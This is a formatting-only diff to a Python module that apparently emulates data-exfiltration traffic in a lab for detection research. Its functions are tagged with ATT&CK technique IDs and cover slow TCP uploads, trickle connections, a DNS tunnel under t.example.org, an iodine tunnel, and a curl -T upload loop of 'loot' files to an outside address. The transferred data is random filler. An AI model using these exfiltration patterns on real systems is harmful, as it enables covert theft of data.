@@ -24,7 +24,9 @@ def uploads(
     """Posts pieces to an outside host nobody asked before, one connection a piece."""
     address = stage.outsider(rng)
     sent = 0
-    with stage.activity("exfiltration", "T1048.002", "slow uploads", [me], [address], "tcp", [port]):
+    with stage.activity(
+        "exfiltration", "T1048.002", "slow uploads", [me], [address], "tcp", [port]
+    ):
         for _ in range(count):
             with suppress(OSError):
                 body = wire.filler(int(size * rng.uniform(0.5, 1.5)))
@@ -47,7 +49,9 @@ def trickle(
     """A few long raw connections that carry data out at a low rate."""
     address = stage.outsider(rng)
     stage.start(
-        stage.one("internet"), lambda: servers.tcp(stage, port, servers.swallow, address=address), "drop server"
+        stage.one("internet"),
+        lambda: servers.tcp(stage, port, servers.swallow, address=address),
+        "drop server",
     )
     stage.sleep(0.3)
     with stage.activity("exfiltration", "T1041", "trickle", [me], [address], "tcp", [port]):
@@ -77,8 +81,13 @@ def dns_text(
     shared = socket.socket(socket.AF_INET, socket.SOCK_DGRAM) if one_socket else None
     with stage.activity("exfiltration", "T1048.003", "DNS tunnel", [me], [address], "udp", [53]):
         for number in range(count):
-            parts = ["".join(rng.choices(letters, k=rng.randint(40, 60))) for _ in range(rng.randint(1, 3))]
-            question = wire.dns_question(".".join([*parts, f"{number}.t.example.org"]), 16, rng.randrange(65536))
+            parts = [
+                "".join(rng.choices(letters, k=rng.randint(40, 60)))
+                for _ in range(rng.randint(1, 3))
+            ]
+            question = wire.dns_question(
+                ".".join([*parts, f"{number}.t.example.org"]), 16, rng.randrange(65536)
+            )
             link = shared or socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
             with suppress(OSError):
                 link.settimeout(1)
@@ -93,11 +102,19 @@ def dns_text(
 
 
 def datagrams(
-    stage: Stage, me: Host, rng: random.Random, *, rate: int = 30_000, seconds: float = 60.0, port: int = 4500
+    stage: Stage,
+    me: Host,
+    rng: random.Random,
+    *,
+    rate: int = 30_000,
+    seconds: float = 60.0,
+    port: int = 4500,
 ) -> None:
     """Data in datagrams of a protocol of its own; the drop acknowledges one in ten. A new socket every few seconds."""
     address = stage.outsider(rng)
-    stage.start(stage.one("internet"), lambda: servers.udp_sink(stage, address, port, 10), "drop server")
+    stage.start(
+        stage.one("internet"), lambda: servers.udp_sink(stage, address, port, 10), "drop server"
+    )
     stage.sleep(0.3)
     size = rng.randint(400, 1300)
     with stage.activity("exfiltration", "T1048.003", "datagrams", [me], [address], "udp", [port]):
@@ -108,14 +125,30 @@ def datagrams(
                     stage.sleep(size / rate * rng.uniform(0.5, 1.5))
 
 
-def iodine(stage: Stage, me: Host, rng: random.Random, *, seconds: float = 60.0, rate: int = 3_000) -> None:
+def iodine(
+    stage: Stage, me: Host, rng: random.Random, *, seconds: float = 60.0, rate: int = 3_000
+) -> None:
     """iodine: a tunnel in DNS with data going up inside it."""
     far = stage.one("tunnel")
     net = f"172.31.{rng.randrange(1, 250)}"
     stage.start(far, lambda: _iodined(stage, net), "iodined")
     stage.sleep(2)
     with stage.activity("exfiltration", "T1048.003", "iodine", [me], [far], "udp", [53]):
-        stage.spawn(["iodine", "-f", "-P", "lab", "-r", "-T", "TXT", "-I", "2", far.address, "t.example.org"])
+        stage.spawn(
+            [
+                "iodine",
+                "-f",
+                "-P",
+                "lab",
+                "-r",
+                "-T",
+                "TXT",
+                "-I",
+                "2",
+                far.address,
+                "t.example.org",
+            ]
+        )
         with _through(stage, f"{net}.1") as link:
             for _ in range(int(seconds)):
                 link.sendall(wire.filler(int(rate * rng.uniform(0.5, 1.5))))
@@ -152,10 +185,21 @@ def curl(
     """Uploads by curl from a shell loop."""
     address = stage.outsider(rng)
     scheme = "https" if port == 443 else "http"
-    with stage.activity("exfiltration", "T1048.002", "curl uploads", [me], [address], "tcp", [port]):
+    with stage.activity(
+        "exfiltration", "T1048.002", "curl uploads", [me], [address], "tcp", [port]
+    ):
         for number in range(count):
             file = stage.folder / f"loot-{me.name}-{number % 2}"
             file.write_bytes(wire.filler(int(size * rng.uniform(0.4, 1.6))))
-            command = ["curl", "-s", "-k", "-m", "20", "-T", str(file), f"{scheme}://{address}:{port}/20/u"]
+            command = [
+                "curl",
+                "-s",
+                "-k",
+                "-m",
+                "20",
+                "-T",
+                str(file),
+                f"{scheme}://{address}:{port}/20/u",
+            ]
             stage.note(f"curl upload: {stage.tool(command, 25)[-60:]!r}")
             stage.sleep(wait * rng.uniform(0.5, 1.5))
